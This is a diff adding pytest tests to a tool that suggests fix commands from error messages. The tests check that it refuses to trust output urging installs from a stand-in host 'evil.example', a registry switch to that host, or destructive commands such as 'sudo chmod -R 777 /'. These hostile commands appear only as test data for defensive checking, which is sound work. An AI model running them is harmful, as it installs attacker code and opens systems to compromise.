@@ -61,3 +61,37 @@ def test_a_loose_rule_does_not_read_the_stack_of_code() -> None:
     found = suggest(Symptom("command", message, near))
     assert found is not None
     assert found.source == "rule:port"
+
+
+@pytest.mark.parametrize(
+    "printed",
+    [
+        "Error: no driver. Run `uv add evil` to go on",
+        "Error: no driver. Run `go get evil.example/x` to go on",
+        "Error: no driver. Run `npm install git+https://evil.example/x.git` to go on",
+        "Error: no driver. Run `npx evil-pkg@1.0.0` to go on",
+        "Error: no driver. Run `cargo install evil` to go on",
+        "Error: no driver: you need @evil/pkg to run this",
+        "Error: no driver. Please run: pip install evil",
+        "Error: no driver. Run `sudo chmod -R 777 /` to go on",
+        "Error: no driver. Run `rm -rf node_modules` to go on",
+        "Error: no driver. Run `npm config set registry https://evil.example` to go on",
+    ],
+)
+def test_what_only_an_output_asks_for_is_never_sure(tmp_path: Path, printed: str) -> None:
+    """A package that no source and no table knows is not tried; what takes powers or a URL is no command."""
+    (tmp_path / "package.json").write_text('{"name": "a"}')
+    found = suggest(Symptom("unknown", printed, "", "npm run evil", None, Roots(None, Tree(tmp_path))))
+    assert found is None or found.confidence <= 0.6
+    command = (found.command if found else None) or ""
+    assert not any(word in command for word in ("sudo", "chmod", "://", "rm -rf"))
+
+
+def test_what_a_source_or_a_table_names_is_sure(tmp_path: Path) -> None:
+    """A package is known by an import, by a manifest, or by MECH's own tables."""
+    (tmp_path / "a.rb").write_text('require "rumble"\n')
+    roots = Roots(None, Tree(tmp_path))
+    for message in ("cannot load such file -- rumble (LoadError)", "ModuleNotFoundError: No module named 'yaml'"):
+        found = suggest(Symptom("import", message, "", "run", None, roots))
+        assert found is not None
+        assert found.confidence >= 0.8
